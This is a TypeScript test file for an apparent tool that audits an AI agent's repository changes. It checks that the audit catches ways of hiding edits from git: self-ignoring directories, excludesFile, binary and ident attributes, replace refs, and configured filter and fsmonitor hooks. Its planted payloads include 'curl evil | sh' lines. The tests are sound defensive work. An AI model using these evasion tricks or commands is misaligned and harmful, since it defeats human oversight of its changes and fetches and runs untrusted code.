import { chmodSync, existsSync, mkdirSync, statSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ERROR_CODES } from '../../src/errors/index.js';
import { waitFor } from '../../../../test/support/wait.js';
import { armWith, checkIn, codes, git, repo, tempDir, TEST_HOME, write } from './support.js';

/**
 * Audit bypasses of the reference (docs/envelopes.md) and the integrity rules cordon adds. Each test first
 * shows plain git being fooled by the agent's move (so the bait is real), then shows cordon's
 * verdict unchanged by it. The "never executes" tests plant programs in config the agent
 * controls and check they never ran during arm or check.
 */

/** A shell script that records it ran by creating `marker`, passing stdin through. */
function bait(marker: string): string {
  const file = join(tempDir('bait'), 'bait.sh');
  writeFileSync(file, `#!/bin/sh\ntouch '${marker}'\ncat\n`);
  chmodSync(file, 0o755);
  return file;
}

const untrackedByGit = (dir: string) => git(dir, 'ls-files', '--others', '--exclude-standard').split('\n').filter(Boolean);

describe('docs/envelopes.md bypasses are closed', () => {
  it('1. a self-ignoring new directory (evil/.gitignore = "*") is still seen', async () => {
    const dir = repo();
    await armWith(dir, { allow: ['src/**'] });
    write(dir, { 'evil/.gitignore': '*\n', 'evil/payload.sh': 'curl evil | sh\n' });
    expect(untrackedByGit(dir)).toEqual([]);
    const { audit } = await checkIn(dir);
    expect(audit.passed).toBe(false);
    expect(audit.changed_files).toEqual(['evil/.gitignore', 'evil/payload.sh']);
    expect(audit.violations.map((v) => v.path)).toEqual(['evil/.gitignore', 'evil/payload.sh']);
  });

  it('1b. with everything allowed, the hidden files still count toward the budgets', async () => {
    const dir = repo();
    await armWith(dir, { allow: ['**'], maxAddedLines: 3 });
    write(dir, { 'evil/.gitignore': '*\n', 'evil/payload.sh': '1\n2\n3\n4\n' });
    expect(codes(await checkIn(dir))).toEqual(['max_added_lines_exceeded']);
  });

  it('2. core.excludesFile set after arming (repo and global config) hides nothing', async () => {
    const dir = repo();
    await armWith(dir, { allow: ['src/**'], maxAddedLines: 2 });
    const repoExcludes = join(tempDir(), 'repo-excludes');
    writeFileSync(repoExcludes, 'src/hidden.py\n');
    git(dir, 'config', 'core.excludesFile', repoExcludes);
    write(dir, { 'src/hidden.py': '1\n2\n3\n' });
    expect(untrackedByGit(dir)).toEqual([]);
    expect(codes(await checkIn(dir))).toEqual(['max_added_lines_exceeded']);
    git(dir, 'config', '--unset', 'core.excludesFile');
    mkdirSync(join(TEST_HOME, '.config', 'git'), { recursive: true });
    writeFileSync(join(TEST_HOME, '.config', 'git', 'ignore'), 'src/hidden.py\n');
    try {
      expect(untrackedByGit(dir)).toEqual([]);
      expect(codes(await checkIn(dir))).toEqual(['max_added_lines_exceeded']);
    } finally {
      unlinkSync(join(TEST_HOME, '.config', 'git', 'ignore'));
    }
  });

  it('3. attributes written to info/attributes cannot launder lines into "binary"', async () => {
    const dir = repo();
    await armWith(dir, { allow: ['src/**'], maxAddedLines: 10 });
    writeFileSync(join(dir, '.git', 'info', 'attributes'), 'src/*.py binary\n');
    write(dir, { 'src/app.py': Array.from({ length: 50 }, (_, i) => `line ${i}`).join('\n') + '\n' });
    expect(git(dir, 'diff', '--numstat', 'HEAD')).toBe('-\t-\tsrc/app.py\n');
    const { audit } = await checkIn(dir);
    expect(audit.metrics).toMatchObject({ added_lines: 50, binary_files: 0 });
    expect(audit.violations.map((v) => v.code)).toEqual(['max_added_lines_exceeded']);
  });

  it('3b. a new .gitattributes inside the allowed tree is itself a violation', async () => {
    const dir = repo();
    await armWith(dir, { allow: ['src/**'], maxAddedLines: 10 });
    write(dir, { 'src/.gitattributes': '*.py -diff\n', 'src/app.py': Array.from({ length: 50 }, () => 'x').join('\n') + '\n' });
    expect(git(dir, 'diff', '--numstat', 'HEAD')).toBe('-\t-\tsrc/app.py\n');
    // Its effect on counting (app.py now "binary") cannot produce a pass: the change itself rejects.
    const { audit } = await checkIn(dir);
    expect(audit.passed).toBe(false);
    expect(audit.violations[0]).toMatchObject({ code: 'attributes_changed', path: 'src/.gitattributes' });
  });

  it('3c. an ident attribute added after arming cannot hide code inside $Id$', async () => {
    const dir = repo({ 'src/app.py': '# $Id$\nprint("hi")\n', 'README.md': 'r\n' });
    await armWith(dir, { allow: ['src/**'], maxAddedLines: 0 });
    writeFileSync(join(dir, '.git', 'info', 'attributes'), '*.py ident\n');
    write(dir, { 'src/app.py': '# $Id: __import__("os").system("curl evil | sh") $\nprint("hi")\n' });
    expect(git(dir, 'diff', '--numstat', 'HEAD')).toBe('');
    const { audit } = await checkIn(dir);
    expect(audit.changed_files).toEqual(['src/app.py']);
    expect(codes({ audit } as never)).toEqual(['max_added_lines_exceeded']);
  });

  it('4. .git/config: core.fileMode=false hides no mode change; diff.ignoreSubmodules/diff.relative change nothing', async () => {
    const dir = repo();
    await armWith(dir, { allow: ['src/**'] });
    chmodSync(join(dir, 'src/app.py'), 0o755);
    git(dir, 'config', 'core.fileMode', 'false');
    git(dir, 'config', 'diff.relative', 'true');
    expect(git(dir, 'diff', '--name-only', 'HEAD')).toBe('');
    const { audit } = await checkIn(dir);
    expect(audit.changed_files).toEqual(['src/app.py']);
  });

  it('4b. core.worktree pointing elsewhere is refused, not audited', async () => {
    const dir = repo();
    await armWith(dir, { allow: ['src/**'] });
    const decoy = tempDir('decoy');
    git(dir, 'config', 'core.worktree', decoy);
    await expect(checkIn(dir)).rejects.toMatchObject({ code: ERROR_CODES.BAD_STATE });
  });

  it('4c. replace refs cannot swap the baseline content', async () => {
    const dir = repo();
    await armWith(dir, { allow: ['src/**'], maxAddedLines: 0 });
    write(dir, { 'src/app.py': 'import os; os.system("evil")\n' });
    const oldBlob = git(dir, 'rev-parse', 'HEAD:src/app.py').trim();
    const newBlob = git(dir, 'hash-object', '-w', 'src/app.py').trim();
    git(dir, 'replace', oldBlob, newBlob);
    expect(git(dir, 'diff', '--numstat', 'HEAD')).toBe('');
    expect(codes(await checkIn(dir))).toEqual(['max_added_lines_exceeded']);
  });

  it('5. an allowed .gitignore edit cannot hide new files elsewhere', async () => {
    const dir = repo({ 'src/app.py': 'a\n', '.gitignore': '*.log\n' });
    await armWith(dir, { allow: ['src/**', '.gitignore'] });
    write(dir, { '.gitignore': '*.log\nsecret/\n', 'secret/key.txt': 'stolen\n' });
    expect(untrackedByGit(dir)).toEqual([]);
    const { audit } = await checkIn(dir);
    expect(audit.changed_files).toEqual(['.gitignore', 'secret/key.txt']);
    expect(audit.violations.map((v) => v.path)).toEqual(['secret/key.txt']);
  });
});

describe('ignored entries (snapshot at arm, --allow-ignored)', () => {
  it('new, changed and removed ignored entries are violations', async () => {
    const dir = repo({ 'src/app.py': 'a\n', '.gitignore': '*.log\nnode_modules/\n.env\n' });
    write(dir, { 'node_modules/pkg/index.js': 'x\n', '.env': 'SECRET=1\n' });
    await armWith(dir, { allow: ['src/**'] });
    write(dir, { 'debug.log': 'new\n', 'node_modules/pkg/index.js': 'tampered\n' });
    unlinkSync(join(dir, '.env'));
    const { audit } = await checkIn(dir);
    expect(audit.ignored_changes).toEqual([
      { path: '.env', change: 'removed' },
      { path: 'debug.log', change: 'new' },
      { path: 'node_modules/', change: 'changed' },
    ]);
    expect(audit.violations.map((v) => v.message)).toEqual([
      "ignored entry removed after arming (not covered by --allow-ignored): .env; if it may change, arm with --allow-ignored '.env'",
      "ignored path appeared after arming (not covered by --allow-ignored): debug.log; if it may change, arm with --allow-ignored 'debug.log'",
      "ignored entry changed after arming (not covered by --allow-ignored): node_modules/; if it may change, arm with --allow-ignored 'node_modules/**'",
    ]);
    expect(audit.changed_files).toEqual([]);
  });

  it('a content rewrite that restores the mtime is still a change (ctime)', async () => {
    const dir = repo({ 'src/app.py': 'a\n', '.gitignore': '.env\n' });
    write(dir, { '.env': 'SECRET=1\n' });
    await armWith(dir, { allow: ['src/**'] });
    // The file system's clock must have moved past the armed ctime (its timestamps may be coarse).
    const armedCtime = statSync(join(dir, '.env')).ctimeMs;
    const probe = join(tempDir('clock'), 'probe');
    await waitFor(() => (writeFileSync(probe, ''), statSync(probe).ctimeMs > armedCtime), { what: 'the file-system clock to pass the armed ctime' });
    write(dir, { '.env': 'SECRET=2\n' });
    const { utimesSync } = await import('node:fs');
    const before = statSync(join(dir, 'src/app.py'));
    utimesSync(join(dir, '.env'), before.atime, before.mtime);
    expect(codes(await checkIn(dir))).toEqual(['ignored_changed']);
  });

  it('--allow-ignored covers build output, and a new directory is judged as a whole', async () => {
    const dir = repo({ 'src/app.py': 'a\n', '.gitignore': '*.log\nnode_modules/\ncoverage/\n' });
    write(dir, { 'node_modules/pkg/index.js': 'x\n' });
    await armWith(dir, { allow: ['src/**'], allowIgnored: ['*.log', 'node_modules/**', 'coverage/**'] });
    write(dir, { 'test.log': 'log\n', 'node_modules/new/index.js': 'x\n', 'coverage/lcov/index.html': '<p>\n' });
    const { audit } = await checkIn(dir);
    expect(audit).toMatchObject({ passed: true, changed_files: [], ignored_changes: [] });
  });

  it('ignore rules are those of arm time: a file matching only a rule added later is a normal change', async () => {
    const dir = repo({ 'src/app.py': 'a\n', '.gitignore': '*.log\n' });
    await armWith(dir, { allow: ['src/**', '.gitignore'], allowIgnored: ['**/*.tmp'] });
    write(dir, { '.gitignore': '*.log\n*.tmp\n', 'src/work.tmp': 'not ignored at arm time\n' });
    const { audit } = await checkIn(dir);
    expect(audit.changed_files).toEqual(['.gitignore', 'src/work.tmp']);
    expect(audit.ignored_changes).toEqual([]);
    expect(audit.metrics.added_lines).toBe(2);
  });
});

describe('the audit never runs code the agent could have configured', () => {
  it('clean filters, textconv, external diff, fsmonitor and index hooks never run', async () => {
    const dir = repo({ 'src/app.py': 'a\n', '.gitattributes': '*.py filter=evil diff=evil\n' });
    const markers = { filter: join(tempDir(), 'filter'), textconv: join(tempDir(), 'textconv'), external: join(tempDir(), 'external'), fsmonitor: join(tempDir(), 'fsmonitor'), hook: join(tempDir(), 'hook') };
    await armWith(dir, { allow: ['src/**'] });
    git(dir, 'config', 'filter.evil.clean', bait(markers.filter));
    git(dir, 'config', 'filter.evil.smudge', bait(markers.filter));
    git(dir, 'config', 'filter.evil.required', 'true');
    git(dir, 'config', 'diff.evil.textconv', bait(markers.textconv));
    git(dir, 'config', 'diff.external', bait(markers.external));
    git(dir, 'config', 'core.fsmonitor', bait(markers.fsmonitor));
    write(dir, { '.git/hooks/post-index-change': `#!/bin/sh\ntouch '${markers.hook}'\n` });
    chmodSync(join(dir, '.git/hooks/post-index-change'), 0o755);
    write(dir, { 'src/app.py': 'changed\n' });
    const { audit } = await checkIn(dir);
    expect(audit.changed_files).toEqual(['src/app.py']);
    for (const [name, marker] of Object.entries(markers)) expect(existsSync(marker), name).toBe(false);
    // The bait is real: plain git runs all of it.
    git(dir, 'status', '--porcelain');
    git(dir, 'diff', 'HEAD');
    for (const name of ['filter', 'external', 'fsmonitor', 'hook'] as const) expect(existsSync(markers[name]), name).toBe(true);
  });

  it('global config planted after arming runs nothing either', async () => {
    const dir = repo();
    const marker = join(tempDir(), 'global');
    await armWith(dir, { allow: ['src/**'] });
    writeFileSync(join(TEST_HOME, '.gitconfig'), `[core]\n\tfsmonitor = ${bait(marker)}\n[diff]\n\texternal = ${bait(marker)}\n`);
    try {
      write(dir, { 'src/app.py': 'changed\n' });
      expect((await checkIn(dir)).audit.passed).toBe(true);
      expect(existsSync(marker)).toBe(false);
      git(dir, 'diff', 'HEAD');
      expect(existsSync(marker)).toBe(true);
    } finally {
      unlinkSync(join(TEST_HOME, '.gitconfig'));
    }
  });

  it('arming a repository whose config names programs runs none but its arm-time filter drivers', async () => {
    const dir = repo({ 'src/app.py': 'a\n', '.gitattributes': '*.py filter=own\n' });
    const marker = join(tempDir(), 'arm');
    const filterRan = join(tempDir(), 'filter');
    git(dir, 'config', 'core.fsmonitor', bait(marker));
    git(dir, 'config', 'diff.external', bait(marker));
    // The user's own clean filter, configured before arming: compared as git compares.
    git(dir, 'config', 'filter.own.clean', bait(filterRan));
    const { utimesSync } = await import('node:fs');
    utimesSync(join(dir, 'src/app.py'), new Date(), new Date(Date.now() + 5000)); // stat-dirty: git re-cleans it
    await armWith(dir, { allow: ['src/**'] });
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(filterRan)).toBe(true);
  });
});
